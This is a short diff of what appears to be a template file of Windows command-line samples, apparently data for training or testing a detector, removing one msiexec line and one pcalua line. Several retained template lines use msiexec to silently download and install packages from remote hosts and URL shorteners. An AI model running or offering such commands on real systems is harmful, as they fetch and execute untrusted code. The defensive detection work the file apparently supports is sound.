@@ -44,7 +44,6 @@ msiexec /qn /i http://@pub@:8080/~n~ TARGETDIR=~d~
 mSiExEc -Q/IHTtP://@word@.«com|xyz»:8080/@hex@/@me@=@user@
 cmd.exe /c START "" msiexec /y ~f~.dll
 msiexec.exe /z "~f~.dll"
-msiexec /quiet /norestart /package ~f~.msi
 msiexec.exe /i "\\@pub@\public\~n~.msi" /qn
 msiexec /q /i "https://«bit.ly|tinyurl.com|is.gd»/@hex@"
 msiexec.exe /fv @url@ /q
@@ -248,7 +247,6 @@ harmless("helpers-that-start-others", "Administration", r"""
 forfiles /p "D:\Backup" /s /m *.«bak|zip|log» /d -@n@ /c "cmd /c del @path"
 forfiles.exe /P C:\inetpub\logs\LogFiles /S /M *.log /D -30 /C "cmd /c echo @file @fdate"
 pcalua.exe -a "C:\Program Files (x86)\~v~\setup.exe" -d "C:\Program Files (x86)\~v~"
-"C:\Windows\System32\pcalua.exe" -a "~t~setup.exe"
 C:\Windows\system32\conhost.exe 0xffffffff -ForceV1
 conhost.exe --headless --width 80 --height 30 --signal 0x@hex@ --server 0x@hex@
 ssh -o ProxyCommand="ssh -W %h:%p jump.@fqdn@" @svc@@@host@
